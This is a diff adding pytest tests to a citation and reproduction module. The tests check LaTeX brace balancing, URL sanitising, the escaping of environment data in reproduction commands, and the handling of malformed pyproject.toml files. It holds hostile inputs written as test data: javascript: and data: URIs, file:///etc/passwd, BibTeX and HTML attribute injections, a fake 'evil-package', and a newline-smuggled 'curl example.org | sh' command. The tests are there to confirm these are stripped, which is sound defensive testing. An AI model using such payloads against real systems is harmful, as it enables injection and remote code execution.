@@ -8,12 +8,15 @@ import jsonschema
 import pytest
 from bibtexparser.middlewares import LatexDecodingMiddleware
 
-from pytest_scaling.report.citation.bibtex import bibtex, latex
-from pytest_scaling.report.citation.citation import cite
+from pytest_scaling.report.citation.bibtex import balanced, bibtex, latex
+from pytest_scaling.report.citation.bibtex import source as bibtex_source
+from pytest_scaling.report.citation.citation import Origin, cite
 from pytest_scaling.report.citation.csl import csl
+from pytest_scaling.report.citation.csl import source as csl_source
 from pytest_scaling.report.citation.key import KeyFault
 from pytest_scaling.report.citation.moment import address
-from pytest_scaling.report.citation.project import Place
+from pytest_scaling.report.citation.project import Place, Project
+from pytest_scaling.report.citation.reproduce import reproduce
 
 MINUS = "\N{MINUS SIGN}"
 
@@ -270,3 +273,61 @@ def test_a_claim_without_a_source_has_one_entry(forest, make):
 )
 def test_a_link_starts_where_it_was_said(url, link):
     assert address(url, "05:01-05:17") == link
+
+
+@pytest.mark.parametrize("text", ["a } b { c", "{", "}}", "{ open", r"\} x"])
+def test_braces_without_a_partner_do_not_end_an_entry(text):
+    assert latex(text).count("{") == latex(text).count("}")
+    assert balanced(latex(text))
+
+
+HOSTILE = [
+    "javascript:alert(1)",
+    "JavaScript://example.org/%0aalert(1)",
+    "data:text/html,x",
+    "file:///etc/passwd",
+    "https://",
+    "http://[::1",
+    "https://example.org/}\n@misc{x",
+    "https://example.org/ x",
+    'https://example.org/"onclick="',
+]
+
+
+@pytest.mark.parametrize("url", HOSTILE)
+@pytest.mark.parametrize("times", [(), ("05:01",)])
+def test_only_addresses_of_the_web_are_cited(url, times):
+    origin = Origin("On trees", "A. Teacher", url, times)
+    assert origin.link == ""
+    assert "url" not in bibtex_source(origin) or bibtex_source(origin)["url"] == ""
+    assert csl_source(origin)["URL"] == ""
+
+
+def test_only_known_libraries_are_installed(forest, make):
+    row = make.row("oak", "supported", make.cell("supported", make.comparison()))
+    row["environment"]["libraries"]["evil-package"] = "6.6.6"
+    row["environment"]["system"] = "Linux\ncurl example.org | sh #"
+    forest.write(row)
+    lines = reproduce(row, Place.of(forest.path("oak")))
+    assert "evil-package" not in " ".join(lines)
+    assert all("\n" not in line for line in lines)
+    assert lines[0].startswith("# ")
+
+
+@pytest.mark.parametrize(
+    "toml",
+    [
+        "project = 3",
+        "[project]\nname = 7",
+        '[project]\nname = "a\\nb"\nauthors = 5\nurls = []',
+        "[project]\nauthors = [3, { name = [1] }]\nurls = { source = 4 }",
+        "dependency-groups = 1",
+    ],
+)
+def test_settings_that_are_none_are_left_alone(toml, tmp_path):
+    (tmp_path / "pyproject.toml").write_text(toml)
+    project = Project.around(tmp_path)
+    assert project.authors == ()
+    assert project.url == ""
+    assert "\n" not in project.name
+    assert project.name
